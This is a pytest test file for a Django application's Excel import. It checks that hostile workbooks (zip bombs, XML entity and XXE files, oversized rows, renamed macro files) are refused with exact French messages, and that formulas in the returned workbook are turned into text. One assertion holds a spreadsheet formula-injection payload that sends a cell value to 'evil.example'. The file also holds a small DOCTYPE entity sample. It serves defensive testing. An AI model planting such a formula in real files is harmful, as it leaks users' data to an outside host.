"""Issue 11, part 4: hostile workbooks (tests/hours/hostile.py) are refused with an exact French message,
by the command's run_import and by the upload page, before they cost memory or time; too big uploads get
the 413 page; the annotated workbook never gives formulas back live. The files are tiny: the limits are
lowered (1 000 rows, 1 000 shared strings) instead of the files being grown; bench/bench_hostile.py
measures the full-size files."""

import html
import io
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from openpyxl import load_workbook

from hours.models import ImportBatch
from hours.suivi import run_import
from tests.hours import hostile

pytestmark = pytest.mark.django_db
NNBSP = "\u202f"
DOCTYPE = (
    "la partie « xl/worksheets/sheet1.xml » déclare un DOCTYPE (entités XML) : un classeur Excel n'en "
    "contient jamais, fichier refusé."
)
EXPECTED = {
    "zip_bomb": re.compile(
        r"la partie « xl/worksheets/sheet1\.xml » se décompresse en \d+ fois sa taille "
        r"\(bombe de décompression \?\) : 100 fois au plus\."
    ),
    "declared_bomb": f"l'archive .xlsx se décompresse en 4{NNBSP}096 Mo : 500 Mo au plus.",
    "billion_laughs": DOCTYPE,
    "xxe": DOCTYPE,
    "xxe_utf16": DOCTYPE,
    "huge_row": (
        f"le fichier déclare la ligne 1{NNBSP}000{NNBSP}000{NNBSP}000{NNBSP}000 : 1{NNBSP}000 lignes au plus."
    ),
    "huge_column": (
        f"le fichier déclare la colonne ZZZZZZ (cellule ZZZZZZ3) : 16{NNBSP}384 colonnes au plus (XFD, la "
        "dernière d'Excel) ; le tableau de suivi en compte 27."
    ),
    "empty_row_flood": (
        f"la feuille « Heures » compte plus de 1{NNBSP}001 lignes, vides comprises : "
        f"1{NNBSP}000 lignes au plus."
    ),
    "huge_shared_strings": (
        f"la table des chaînes partagées du classeur dépasse 1{NNBSP}000 textes ou 32{NNBSP}000{NNBSP}000 "
        "caractères : fichier refusé."
    ),
    "announced_shared_strings": (
        f"la table des chaînes partagées du classeur dépasse 1{NNBSP}000 textes ou 32{NNBSP}000{NNBSP}000 "
        "caractères : fichier refusé."
    ),
    "macro_renamed": (
        "le classeur contient des macros (un fichier .xlsm renommé en .xlsx ?) : enregistrez-le au format "
        "« Classeur Excel (.xlsx) », sans macros."
    ),
    "not_a_zip": "ce fichier n'est pas un classeur Excel .xlsx.",
    "truncated_zip": "le fichier est endommagé (archive .xlsx incomplète ou corrompue).",
    "invalid_xml": re.compile(
        r"le fichier est endommagé : la partie « xl/worksheets/sheet1\.xml » n'est pas du XML valide "
        r"\(ligne 1, colonne \d+\)\."
    ),
}


@pytest.fixture(autouse=True)
def small_limits(settings, monkeypatch, tmp_path):
    import hours.suivi.reading

    settings.CLAUSES_IMPORT_MAX_ROWS = 1000
    settings.MEDIA_ROOT = tmp_path / "media"
    monkeypatch.setattr(hours.suivi.reading, "MAX_SHARED_STRINGS", 1000)


def matches(expected, text):
    if isinstance(expected, str):
        return text == expected
    return expected.fullmatch(text) is not None


@pytest.mark.parametrize("name", list(hostile.CORPUS))
def test_hostile_file_refused_by_the_import(name):
    data = hostile.CORPUS[name][0]()
    assert len(data) < 64 * 1024  # tiny on disk
    report = run_import(io.BytesIO(data), file_name="suivi.xlsx", dry_run=True)
    assert matches(EXPECTED[name], report.fatal), report.fatal
    assert "Error" not in report.fatal and "Exception" not in report.fatal


@pytest.mark.parametrize("name", list(hostile.CORPUS))
def test_hostile_file_refused_by_the_upload_page(client, facilitator, name):
    client.force_login(facilitator)
    data = hostile.CORPUS[name][0]()
    response = client.post(reverse("hours:import_upload"), {"file": SimpleUploadedFile("suivi.xlsx", data)})
    assert response.status_code == 400
    page = html.unescape(response.content.decode())
    shown = re.search(r"Fichier illisible : (.*?)\s*</", page)
    assert shown and matches(EXPECTED[name], shown[1]), shown and shown[1]
    assert not ImportBatch.objects.exists()


def test_the_row_limit_counts_data_rows_under_the_titles(settings):
    from tests.hours.suivi import line, workbook

    settings.CLAUSES_IMPORT_MAX_ROWS = 3
    assert run_import(io.BytesIO(workbook([line()] * 3)), dry_run=True).fatal == ""  # rows 2 to 4
    report = run_import(io.BytesIO(workbook([line()] * 4)), dry_run=True)
    assert (
        report.fatal == "la feuille « Heures » compte plus de 4 lignes, vides comprises : 3 lignes au plus."
    )
    report = run_import(
        io.BytesIO(hostile.with_rows('<row r="5"><c r="A5"><v>1</v></c></row>')), dry_run=True
    )
    assert report.fatal == "le fichier déclare la ligne 5 : 3 lignes au plus."
    # an empty row beyond the limit costs nothing and is ignored
    assert run_import(io.BytesIO(hostile.with_rows('<row r="900000"/>')), dry_run=True).fatal == ""


def test_the_uncompressed_size_limit_is_a_setting(settings):
    settings.CLAUSES_IMPORT_MAX_UNCOMPRESSED_MB = 0
    report = run_import(io.BytesIO(hostile.base()), dry_run=True)
    assert re.fullmatch(
        r"l'archive \.xlsx se décompresse en [\d\u202f]+ octets : 0 octets au plus\.", report.fatal
    )


def test_entities_are_refused_by_the_parser_too():
    """The second line: the XML is parsed by defusedxml, which refuses a DTD wherever it hides."""
    from hours.suivi.archive import UnreadableFile
    from hours.suivi.reading import read_shared_strings

    xml = b'<?xml version="1.0"?><!DOCTYPE sst [<!ENTITY a "aaaa">]><sst><si><t>&a;</t></si></sst>'
    with pytest.raises(UnreadableFile) as refused:
        read_shared_strings(io.BytesIO(xml), "xl/sharedStrings.xml")
    assert str(refused.value) == (
        "la partie « xl/sharedStrings.xml » déclare un DOCTYPE (entités XML) : un classeur Excel n'en "
        "contient jamais, fichier refusé."
    )


def test_doctype_hidden_after_a_long_comment_is_refused():
    data = hostile.with_rows("", prolog="<!--" + "x" * 70_000 + "-->")
    report = run_import(io.BytesIO(data), dry_run=True)
    assert report.fatal == "un en-tête XML du classeur est anormalement long : fichier refusé."


# --------------------------------------------------------------------------------------------------
# The annotated workbook


def test_annotated_workbook_gives_formulas_back_as_text(client, facilitator):
    client.force_login(facilitator)
    data = hostile.with_formula_and_error()
    client.post(reverse("hours:import_upload"), {"file": SimpleUploadedFile("suivi.xlsx", data)})
    batch = ImportBatch.objects.get()
    assert batch.status == ImportBatch.Status.REFUSED
    response = client.get(reverse("hours:import_annotated", args=[batch.pk]))
    assert response.status_code == 200
    book = load_workbook(io.BytesIO(response.content))  # formulas, not cached values
    sheet, notes = book["Heures"], book["Notes"]
    assert sheet["AB2"].value == '\'=HYPERLINK("http://evil.example/?"&L2,"clic")'
    assert sheet["AB2"].data_type == "s" and sheet["AC2"].value == "'=1+2" and sheet["AC2"].data_type == "s"
    assert [c.value for c in notes[1]] == ["'=SUM(1,2)", "'-texte", "normal"]
    assert all(c.data_type != "f" for s in book for row in s.iter_rows() for c in row)


# --------------------------------------------------------------------------------------------------
# Too big uploads: 413, in the application's layout


def test_upload_over_the_limit_gets_the_413_page(client, facilitator, settings):
    client.force_login(facilitator)
    settings.CLAUSES_MAX_UPLOAD_MB = 0  # 0 MB + 64 KB of form
    big = SimpleUploadedFile("suivi.xlsx", hostile.base() + bytes(100_000))
    response = client.post(reverse("hours:import_upload"), {"file": big})
    assert response.status_code == 413
    page = html.unescape(response.content.decode())
    assert '<h1 class="h3">Fichier trop volumineux</h1>' in page
    assert "L'envoi dépasse la taille autorisée : 0 Mo au plus par fichier." in page
    assert "Retour au tableau de bord" in page and "navbar" in page  # the application's layout
    assert not ImportBatch.objects.exists()


def test_django_request_data_too_big_gets_the_413_page(client, facilitator, settings):
    client.force_login(facilitator)
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    # a multipart form whose text fields exceed Django's limit (RequestDataTooBig: a 400 before)
    response = client.post(reverse("hours:import_upload"), {"note": "x" * 2000})
    assert response.status_code == 413 and "Fichier trop volumineux" in response.content.decode()
    # any other body over Django's limit, on any page
    response = client.post(
        reverse("hours:import_upload"), "a=" + "x" * 2000, content_type="application/x-www-form-urlencoded"
    )
    assert response.status_code == 413 and "Fichier trop volumineux" in response.content.decode()


def test_the_bounded_shared_strings_reader_reads_what_openpyxl_reads():
    from openpyxl.reader.strings import read_string_table

    from hours.suivi.reading import read_shared_strings

    xml = (
        b'<?xml version="1.0"?><sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<si><t xml:space="preserve"> a </t></si><si><r><rPr><b/></rPr><t>Du</t></r><r><t>pont</t></r>'
        b'<rPh sb="0" eb="1"><t>PH</t></rPh></si><si><t>x&amp;y_x005F_</t><rPh sb="0" eb="1"><t>no</t></rPh>'
        b"</si><si/><si><t/></si></sst>"
    )
    assert read_shared_strings(io.BytesIO(xml)) == [" a ", "Dupont", "x&y_", "", ""]
    assert read_string_table(io.BytesIO(xml)) == [" a ", "Dupont", "x&y_", "", ""]


def test_the_upload_page_states_the_limits(client, facilitator):
    client.force_login(facilitator)
    page = client.get(reverse("hours:import_upload")).content.decode()
    assert (
        "Taille maximale : 20 Mo et 1\u202f000 lignes ; les classeurs avec macros (.xlsm) sont refusés."
        in page
    )
